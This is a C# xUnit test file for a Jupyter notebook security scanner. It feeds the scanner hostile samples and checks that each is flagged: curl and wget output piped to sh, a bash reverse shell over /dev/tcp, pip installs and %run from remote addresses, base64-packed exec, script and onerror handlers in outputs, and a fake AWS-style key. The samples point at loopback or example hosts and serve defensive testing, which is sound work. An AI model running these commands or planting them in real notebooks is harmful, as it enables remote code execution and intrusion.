using System.Text;

namespace Assay.Build.Tests.ModelFiles.Code;

public sealed class NotebookScanTests
{
    public static readonly IReadOnlyDictionary<string, byte[]> Hostile = new Dictionary<string, byte[]>
    {
        ["notebook with !curl|sh"] = CodeSamples.Notebook("!curl -s http://127.0.0.1/x | sh"),
        ["%%bash"] = CodeSamples.Notebook("%%bash\ncd /tmp\nwget -qO- http://127.0.0.1/x | sudo bash"),
        ["command over lines"] = CodeSamples.Notebook("!curl -s \\\n  http://127.0.0.1/x \\\n  | sh"),
        ["assigned"] = CodeSamples.Notebook("out = !bash -c \"bash -i >& /dev/tcp/127.0.0.1/1 0>&1\""),
        ["get_ipython"] = CodeSamples.Notebook("import os\nos.system('curl http://127.0.0.1/x | python3')"),
        ["pip from an address"] = CodeSamples.Notebook("%pip install http://127.0.0.1/x.whl"),
        ["pip from an index"] = CodeSamples.Notebook("!pip install --extra-index-url https://pypi.example.net/simple torch"),
        ["%run of an address"] = CodeSamples.Notebook("%run https://example.net/x.py"),
        ["packed code"] = CodeSamples.Notebook("import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyBpbmVydCcp'))"),
        ["over two cells"] = Encoding.UTF8.GetBytes("""{"cells": [{"cell_type": "code", "source": "import os as o"}, {"cell_type": "code", "source": "getattr(o, 'sys' + 'tem')('echo inert')"}], "nbformat": 4}"""),
        ["handler in an output"] = CodeSamples.Notebook("1", """[{"output_type": "display_data", "data": {"text/html": ["<img src=x ", "onerror=alert(1)>"]}}]"""),
        ["script in an output"] = CodeSamples.Notebook("1", """[{"output_type": "display_data", "data": {"text/html": "<script src='https://example.net/x.js'></script>"}}]"""),
        ["kernel from an output"] = CodeSamples.Notebook("1", """[{"output_type": "display_data", "data": {"application/javascript": "IPython.notebook.kernel.execute('1')"}}]"""),
        ["handler in a text cell"] = CodeSamples.Notebook("<a href=\"javascript:alert(1)\">x</a>", kind: "markdown"),
        ["key in an output"] = CodeSamples.Notebook("1", """[{"output_type": "stream", "name": "stdout", "text": ["key: AKIA", "ABCDEFGHIJKLMNOP\n"]}]"""),
        ["version 3"] = Encoding.UTF8.GetBytes("""{"worksheets": [{"cells": [{"cell_type": "code", "language": "python", "input": "!curl http://127.0.0.1/x | sh", "outputs": []}]}], "nbformat": 3}"""),
    };

    public static TheoryData<string> Names => [.. Hostile.Keys];

    [Theory]
    [MemberData(nameof(Names))]
    public void Flags_what_a_reader_may_not_see(string name) => Scans.Flags(Hostile[name]);

    [Fact]
    public void Passes_an_ordinary_notebook() => Scans.Passes(Encoding.UTF8.GetBytes(CodeSamples.OrdinaryNotebook), "train.ipynb");

    [Fact]
    public void Shows_the_command_with_its_cell()
    {
        var finding = Scans.Bytes(Hostile["notebook with !curl|sh"]).Findings[0];
        Assert.Equal(("notebook-shell", "curl -s http://127.0.0.1/x | sh", "cell 1, line 1"), (finding.RuleId, finding.Evidence, finding.Location!.Part));
    }

    [Fact]
    public void A_key_is_not_repeated_in_the_finding() => Assert.DoesNotContain("AKIAABCDEFGHIJKLMNOP", Scans.Describe(Scans.Bytes(Hostile["key in an output"])), StringComparison.Ordinal);

    [Fact]
    public void A_broken_notebook_is_not_clean()
    {
        var whole = Encoding.UTF8.GetString(Hostile["%%bash"]);
        Assert.False(Scans.Bytes(Encoding.UTF8.GetBytes(whole[..^1])).Complete);
    }
}
